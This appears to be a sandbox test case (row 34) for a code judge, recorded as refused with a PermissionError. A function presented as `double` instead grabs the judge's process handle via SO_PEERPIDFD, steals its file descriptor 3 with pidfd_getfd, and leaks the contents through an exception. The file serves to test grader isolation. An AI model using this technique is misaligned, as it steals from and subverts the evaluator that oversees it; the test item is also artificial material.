"""Row 34: the connection gives a handle of the judge's process (SO_PEERPIDFD); take its files with that.

outcome: REFUSED
says: PermissionError: [Errno 1]
"""

import ctypes
import os
import socket

SO_PEERPIDFD, PIDFD_GETFD = 77, 438
libc = ctypes.CDLL(None, use_errno=True)


def handle_of_judge():
    connection = socket.socket(fileno=3)
    try:
        return connection.getsockopt(socket.SOL_SOCKET, SO_PEERPIDFD)
    except OSError:
        return 4  # kernels before 6.5 do not know it
    finally:
        connection.detach()


def double(x):
    handle = libc.syscall(PIDFD_GETFD, handle_of_judge(), 3, 0)
    if handle < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    raise ValueError(os.read(handle, 1000))
